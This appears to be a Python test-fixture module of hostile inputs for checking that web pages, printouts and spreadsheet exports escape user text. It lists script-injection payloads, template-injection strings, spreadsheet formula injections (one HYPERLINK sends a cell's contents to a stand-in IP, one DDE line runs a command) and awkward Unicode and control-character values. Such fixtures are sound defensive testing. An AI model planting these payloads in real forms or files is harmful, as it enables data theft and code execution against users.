"""Texts that a person may type into any field and that a careless page, print or table would run.

`HACKED` is what their scripts call: a page on which `window.hacked` is set has run one of them.
"""

from __future__ import annotations

HACKED = "window.hacked"
MARKUP = (
    "<img src=x onerror=window.hacked=1>",
    '"><script>window.hacked=1</script>',
    "'><svg onload=window.hacked=1>",
    "</script><script>window.hacked=1</script>",
    "javascript:window.hacked=1",
    "{{constructor.constructor('window.hacked=1')()}}",
    "&lt;b&gt;不是粗体&lt;/b&gt; <b>不是粗体</b>",
)
FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"点我")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    "=cmd|'/C calc'!A0",
)
ODD = (
    "\u202egnp.txet\u202c",
    "长" * 5000,
    "429005001001002",
    "007",
    '引号 " 与,逗号\n换行',
    "𠮷野家 😀",
    "nul\x00 and bell\x07",
    "#N/A",
)
EVIL = (*MARKUP, *FORMULAS, *ODD)


def storable(text: str) -> str:
    """The text as a database or an XML file can hold it: without control characters."""
    return "".join(letter for letter in text if letter >= " " or letter in "\t\r\n")
